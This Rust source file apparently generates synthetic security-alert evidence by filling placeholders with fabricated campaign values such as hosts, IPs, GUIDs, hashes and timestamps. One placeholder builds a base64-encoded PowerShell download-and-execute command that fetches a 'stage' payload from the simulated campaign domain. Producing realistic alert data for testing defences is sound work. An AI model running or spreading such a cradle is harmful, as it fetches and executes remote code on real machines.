//! Fills in the placeholders in a story's text.
//!
//! A placeholder with a name after a colon has the same value throughout the campaign: `<guid:app>`
//! is the same application in all of the campaign's alerts.

use base64::Engine;
use rand::{RngCore, SeedableRng, rngs::StdRng};

use super::{EvidenceBuilder, hash};
use crate::world::{guid, hex};
use alertdeck_model::Timestamp;

impl EvidenceBuilder<'_> {
    /// Fills in the placeholders in a string. Other text in angle brackets stays unchanged.
    pub(super) fn fill(&mut self, text: &str) -> String {
        let mut out = String::with_capacity(text.len());
        let mut rest = text;
        while let Some(open) = rest.find('<') {
            out.push_str(&rest[..open]);
            rest = &rest[open..];
            let value = rest.find('>').and_then(|close| Some((self.value(&rest[1..close])?, close + 1)));
            let (value, length) = value.unwrap_or_else(|| ("<".into(), 1));
            out.push_str(&value);
            rest = &rest[length..];
        }
        out.push_str(rest);
        out
    }

    fn value(&mut self, placeholder: &str) -> Option<String> {
        let (name, argument) = placeholder.split_once(':').unwrap_or((placeholder, ""));
        let property = |name: &str| self.device().properties[name].as_str().unwrap_or_default().to_owned();
        let named = || StdRng::seed_from_u64(self.campaign.hash(argument));
        Some(match (name, argument) {
            ("host", "") => self.device().host.clone(),
            ("mde", "") => self.device().mde_id.clone(),
            ("inside", "") => property("lastIpAddress"),
            ("outside", "") => property("lastExternalIpAddress"),
            ("account", "") => self.person.account.clone(),
            ("upn", "") => self.person.principal(),
            ("display", "") => self.person.display.clone(),
            ("organization", "") => self.person.identity["tenantId"].as_str()?.to_owned(),
            ("domain", "") => self.campaign.domain.clone(),
            ("ip", "") => self.campaign.address.clone(),
            ("peer", "") => self.campaign.peer.clone(),
            ("n", "") => self.campaign.number.to_string(),
            ("i", "") => self.iteration.to_string(),
            ("guid", "") => guid(self.rng),
            ("b64", "") => encoded_command(&format!(
                "IEX (New-Object Net.WebClient).DownloadString('http://{}/stage/{}')",
                self.campaign.domain, self.campaign.number
            )),
            ("guid", _) => guid(&mut named()),
            // The tenant's values are the same in all campaigns.
            ("tenant", _) => guid(&mut StdRng::seed_from_u64(hash(0, argument))),
            ("sha256", _) => hex(&mut named(), 32),
            ("hex", _) => hex(&mut named(), 6),
            ("mac", _) => {
                let bytes = hex(&mut named(), 3);
                format!("00:1b:1b:{}:{}:{}", &bytes[..2], &bytes[2..4], &bytes[4..])
            }
            ("at", _) => self.time(argument)?,
            ("base64", length) => {
                let mut bytes = vec![0; length.parse::<usize>().ok()? / 4 * 3];
                named().fill_bytes(&mut bytes);
                base64::engine::general_purpose::STANDARD.encode(bytes)
            }
            _ => return None,
        })
    }

    /// Formats the time this many seconds after the campaign began. The fraction keeps as many
    /// digits as were given, because products differ in precision (docs/graph-api.md, "Dates").
    fn time(&self, seconds: &str) -> Option<String> {
        let (whole, fraction) = seconds.split_once('.').unwrap_or((seconds, ""));
        let at = Timestamp::from_seconds(self.began.seconds().checked_add(whole.parse().ok()?)?);
        let at = at.to_string();
        let at = at.trim_end_matches('Z').split('.').next()?;
        Some(if fraction.is_empty() { format!("{at}Z") } else { format!("{at}.{fraction}Z") })
    }
}

/// Encodes a script for PowerShell's `-EncodedCommand`: UTF-16LE in base64.
fn encoded_command(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}
